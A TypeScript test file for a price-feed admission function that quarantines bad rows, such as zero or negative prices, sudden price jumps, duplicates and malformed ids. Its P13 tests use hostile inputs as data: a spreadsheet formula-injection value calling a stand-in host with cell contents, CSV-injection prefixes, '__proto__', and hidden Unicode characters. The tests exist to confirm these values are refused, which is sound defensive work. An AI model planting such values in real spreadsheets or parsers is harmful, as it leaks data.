import { admitRows, type Admission } from '../../src/catalog/admitRows';
import { embeddedPrices } from '../../src/catalog/embeddedPrices';
import type { PriceRow } from '../../src/catalog/priceRow';

const TODAY = '2026-11-23';
const GPT: PriceRow = {
  provider: 'openai',
  model: 'gpt-4o',
  input: 2.5,
  cached_input: 1.25,
  output: 10,
  checked: '2026-11-01',
};
/** Ten models at 1/4 USD, so that one of them is a tenth of the feed. */
const ACTIVE: readonly PriceRow[] = [
  GPT,
  ...Array.from({ length: 9 }, (_, index): PriceRow => ({
    provider: 'openai',
    model: `model-${index}`,
    input: 1,
    output: 4,
    checked: '2026-11-01',
  })),
];

function withGpt(change: Partial<PriceRow>): PriceRow[] {
  return [{ ...GPT, checked: '2026-11-20', ...change }, ...ACTIVE.slice(1)];
}
function admitted(admission: Admission) {
  if (admission.kind !== 'admitted') throw new Error(`rejected: ${admission.reason}`);
  return admission;
}
function gptOf(admission: Admission): PriceRow | undefined {
  return admitted(admission).rows.find(({ model }) => model === 'gpt-4o');
}

describe('admission of a feed', () => {
  it('takes a price that moves within reason, with its new date', () => {
    const admission = admitRows(withGpt({ input: 2 }), ACTIVE, { today: TODAY });
    expect(gptOf(admission)).toMatchObject({ input: 2, checked: '2026-11-20' });
    expect(admitted(admission).quarantined).toEqual([]);
  });

  it('P01 a negative price is an unpriced dynamic one: held back, and no negative rate comes into force', () => {
    const admission = admitted(admitRows(withGpt({ input: -1 }), ACTIVE, { today: TODAY }));
    expect(admission.quarantined[0].reason).toBe('input is negative (-1)');
    expect(gptOf(admission)).toBeUndefined();
    const dynamic: PriceRow = { provider: 'openrouter', model: 'auto', input: -1, output: -1 };
    const alone = admitted(admitRows([dynamic], [], { today: TODAY }));
    expect(alone.rows).toEqual([]);
  });

  it('P02 a price of 0 without the free marker is quarantined', () => {
    const admission = admitted(admitRows(withGpt({ output: 0 }), ACTIVE, { today: TODAY }));
    expect(admission.quarantined).toHaveLength(1);
    expect(admission.quarantined[0].reason).toBe('output is 0 and the row is not marked free');
    expect(gptOf(admission)).toBeUndefined();
  });

  it('P02 a price of 0 with the free marker is admitted for a new model', () => {
    const free: PriceRow = { provider: 'google', model: 'gemma-4-31b-it', input: 0, output: 0, status: 'free' };
    expect(admitted(admitRows([...ACTIVE, free], ACTIVE, { today: TODAY })).rows).toContainEqual(free);
  });

  it.each([
    [{ web_search_per_1k: 0 }, 'web_search_per_1k is 0 and the row is not marked free'],
    [{ other_tool_per_1k: 'x_search=5;code=0' }, 'other_tool_per_1k is 0 and the row is not marked free'],
    [{ image_each: 0 }, 'image_each is 0 and the row is not marked free'],
  ])('P02 a fee of 0 without the free marker is quarantined: %j', (fee, reason) => {
    const admission = admitted(admitRows(withGpt(fee), ACTIVE, { today: TODAY }));
    expect(admission.quarantined.map(({ reason: why }) => why)).toEqual([reason]);
    expect(gptOf(admission)).toBeUndefined();
  });

  it('P02 a fee of 0 with the free marker is admitted', () => {
    const free = {
      ...GPT,
      model: 'gemma-free',
      input: 0,
      cached_input: 0,
      output: 0,
      web_search_per_1k: 0,
      status: 'free',
    };
    expect(admitted(admitRows([...ACTIVE, free], ACTIVE, { today: TODAY })).rows).toContainEqual(free);
  });

  it('P04 prices in another currency than USD are not judged by limits in USD', () => {
    const yen: PriceRow = { provider: 'acme', model: 'sakura', input: 450, output: 900, currency: 'JPY' };
    expect(admitted(admitRows([yen], [], { today: TODAY })).quarantined).toEqual([]);
    expect(admitted(admitRows([{ ...yen, currency: ' usd ' }], [], { today: TODAY })).quarantined[0].reason).toBe(
      'its input price is 450 USD per 1M tokens: it is in another unit',
    );
  });

  it.each([
    ['÷1,000', 0.0025, 0.01],
    ['×10', 25, 100],
  ])('P04 one record %s is quarantined by the change guard', (_, input, output) => {
    const admission = admitted(
      admitRows(withGpt({ input, output, cached_input: undefined }), ACTIVE, { today: TODAY }),
    );
    expect(admission.quarantined[0].reason).toBe('changes by more than a factor of 3');
    expect(gptOf(admission)).toBeUndefined();
  });

  it('P04 exactly three times is still admitted, a hair more is not', () => {
    expect(gptOf(admitRows(withGpt({ output: 30 }), ACTIVE, { today: TODAY }))?.output).toBe(30);
    expect(gptOf(admitRows(withGpt({ output: 30.01 }), ACTIVE, { today: TODAY }))).toBeUndefined();
  });

  it('P05 all prices ×2 reject the whole feed', () => {
    const doubled = ACTIVE.map((row) => ({ ...row, input: 2 * (row.input ?? 0), output: 2 * (row.output ?? 0) }));
    expect(admitRows(doubled, ACTIVE, { today: TODAY })).toMatchObject({
      kind: 'rejected',
      reason: '10 of 10 known prices change by more than half',
    });
  });

  it('P05 one price in ten may move by more than half, two may not', () => {
    const moved = (count: number) =>
      ACTIVE.map((row, index) => (index < count ? { ...row, output: 1.6 * (row.output ?? 0) } : row));
    expect(admitRows(moved(1), ACTIVE, { today: TODAY }).kind).toBe('admitted');
    expect(admitRows(moved(2), ACTIVE, { today: TODAY }).kind).toBe('rejected');
  });

  it('P07 a record without an output price stays without one, and is never 0', () => {
    const row: PriceRow = { provider: 'openai', model: 'half-priced', input: 1 };
    const { rows } = admitted(admitRows([...ACTIVE, row], ACTIVE, { today: TODAY }));
    const found = rows.find(({ model }) => model === 'half-priced');
    expect(found?.input).toBe(1);
    expect(found?.output).toBeUndefined();
  });

  it('P08 the same row twice with different prices is quarantined, both times', () => {
    const twice: PriceRow[] = [
      { provider: 'openai', model: 'twin', input: 1, output: 4 },
      { provider: 'openai', model: 'twin', input: 2, output: 4 },
    ];
    const admission = admitted(admitRows([...ACTIVE, ...twice], ACTIVE, { today: TODAY }));
    expect(admission.quarantined.map(({ reason }) => reason)).toEqual([
      'the row is there twice with different prices',
      'the row is there twice with different prices',
    ]);
    expect(admission.rows.some(({ model }) => model === 'twin')).toBe(false);
  });

  const TWIN: PriceRow = { provider: 'openai', model: 'twin', input: 1, output: 4 };
  it.each<[Partial<PriceRow>, Partial<PriceRow>]>([
    [{ web_search_per_1k: 10 }, { web_search_per_1k: 14 }],
    [{ image_each: 'hd=0.08' }, { image_each: 'hd=0.04' }],
    [{ discount: 0.1 }, { discount: 0.5 }],
    [{ discount: 0.1 }, {}],
    [{}, { output: undefined }],
    [{}, { currency: 'EUR' }],
    [{}, { my_input: 0.5 }],
    [
      { region: 'us', multiplier: 1.1 },
      { region: 'US', multiplier: 1.5 },
    ],
    [{ tier: 'Batch' }, { tier: 'batch ', input: 0.5 }],
    [{ valid_from: '2026-07-01' }, { valid_from: '2026-07-01T00:00Z', input: 0.5 }],
    [{}, { model: 'Twin', provider: 'OpenAI', input: 0.5 }],
  ])('P08 the same row with %j and with %j is quarantined, both times', (one, other) => {
    const twice = [
      { ...TWIN, ...one },
      { ...TWIN, ...other },
    ];
    const admission = admitted(admitRows([...ACTIVE, ...twice], ACTIVE, { today: TODAY }));
    expect(admission.quarantined).toEqual(
      twice.map((row) => ({ row, reason: 'the row is there twice with different prices' })),
    );
    expect(admission.rows).toHaveLength(10);
  });

  it('P08 the same row twice with the same prices is one row', () => {
    const again = { ...TWIN, model: 'Twin', name: 'Twin', source: 'elsewhere' };
    const admission = admitted(admitRows([...ACTIVE, TWIN, again], ACTIVE, { today: TODAY }));
    expect(admission.quarantined).toEqual([]);
    expect(admission.rows.slice(10)).toEqual([TWIN]);
  });

  it('P11 a feed that lost 40 % of the models is rejected, one that lost 20 % is not', () => {
    expect(admitRows(ACTIVE.slice(4), ACTIVE, { today: TODAY })).toMatchObject({
      kind: 'rejected',
      reason: 'the feed has 6 models and 10 are in force',
      isShorter: true,
    });
    expect(admitRows([], ACTIVE, { today: TODAY })).toMatchObject({ kind: 'rejected', isShorter: false });
    expect(admitRows(ACTIVE.slice(2), ACTIVE, { today: TODAY }).kind).toBe('admitted');
  });

  it('P11 taken all the same, a feed in which all doubled stays rejected', () => {
    const options = { today: TODAY, allowShorter: true };
    expect(admitted(admitRows(ACTIVE.slice(4), ACTIVE, options)).rows).toHaveLength(6);
    const doubled = ACTIVE.slice(4).map((row) => ({ ...row, input: 2 * (row.input ?? 0) }));
    expect(admitRows(doubled, ACTIVE, options)).toMatchObject({ kind: 'rejected', isShorter: false });
  });

  it.each([
    '=WEBSERVICE("https://x/?"&A1)',
    '+cmd',
    '-1+1',
    '@SUM(A1)',
    '\tgpt',
    'gpt\r4',
    'gpt 4',
    '',
    'a'.repeat(129),
    '__proto__',
  ])('P13 the id %j is refused by the grammar and not repeated in the reason', (model) => {
    const admission = admitted(admitRows([...ACTIVE, { ...GPT, model }], ACTIVE, { today: TODAY }));
    expect(admission.quarantined[0].reason).toBe('the model name has characters that no model id has');
    expect(admission.rows).toHaveLength(10);
  });

  it.each(['Claude\u202E Sonnet', 'GPT\u200B-4o', 'tab\tname', 'x'.repeat(121)])(
    'P13 a display name with hidden characters or without end is refused',
    (name) => {
      expect(gptOf(admitRows(withGpt({ name }), ACTIVE, { today: TODAY }))).toBeUndefined();
    },
  );

  it('P17 an older snapshot replayed is refused unless the user chose it', () => {
    const older = withGpt({ input: 2.4, checked: '2026-10-01' });
    expect(gptOf(admitRows(older, ACTIVE, { today: TODAY }))).toBeUndefined();
    expect(gptOf(admitRows(older, ACTIVE, { today: TODAY, allowOlder: true }))?.input).toBe(2.4);
  });

  it.each([
    [{ input: Infinity }, 'input is not a number'],
    [{ input: Number.NaN }, 'input is not a number'],
    [{ input: 1000.5 }, 'input is 1000.5, above 1000 USD: check its unit'],
    [{ cached_input: 2.6 }, 'cached_input costs more than input'],
    [{ valid_from: '2025-02-30' }, 'valid_from is not a date'],
    [{ valid_from: '2026-02-01', valid_to: '2026-01-01' }, 'valid_to is not after valid_from'],
    [{ checked: '2026-11-24' }, 'checked is in the future'],
    [{ other_tool_per_1k: 'search=free' }, 'other_tool_per_1k is neither a number nor a list of name=price'],
    [{ multiplier: -2 }, 'multiplier is -2'],
    [{ provider: '' }, 'the provider is missing'],
  ])('refuses a row with %j', (change, reason) => {
    const row = { ...GPT, checked: undefined, ...change };
    expect(admitted(admitRows([row], [], { today: TODAY })).quarantined).toEqual([{ row, reason }]);
  });

  it('warns of an output price below a fifth of input, and admits it', () => {
    const admission = admitted(admitRows(withGpt({ output: 4, input: 2.5 }), ACTIVE, { today: TODAY }));
    expect(admission.warnings).toEqual([]);
    const odd: PriceRow = { provider: 'openai', model: 'odd', input: 10, output: 1 };
    expect(admitted(admitRows([odd], [], { today: TODAY })).warnings).toEqual([
      { row: odd, reason: 'output costs less than a fifth of input' },
    ]);
  });
});

describe('the embedded snapshot', () => {
  it('passes every guard of admission', () => {
    const { rows } = embeddedPrices();
    const admission = admitted(admitRows(rows, [], { today: TODAY }));
    expect(admission.quarantined).toEqual([]);
    expect(admission.rows).toHaveLength(rows.length);
  });
});
